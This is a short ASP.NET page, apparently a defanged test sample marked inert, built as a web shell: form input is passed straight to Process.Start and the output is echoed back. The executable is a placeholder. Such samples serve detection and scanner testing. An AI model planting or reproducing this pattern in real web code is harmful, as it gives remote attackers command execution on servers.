<%@ Inert Reason="made for a test: an unknown directive stops the compiler before anything runs" %>
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string Run(string line) {
  ProcessStartInfo info = new ProcessStartInfo();
  info.FileName = "made.example";
  info.Arguments = "/made " + line;
  info.UseShellExecute = false;
  return Process.Start(info).StandardOutput.ReadToEnd();
}
void go_Click(object sender, EventArgs e) { answer.Text = Run(ask.Text); }
</script>
<form runat="server"><asp:TextBox id="ask" runat="server"/><asp:Button OnClick="go_Click" runat="server"/><asp:Label id="answer" runat="server"/></form>
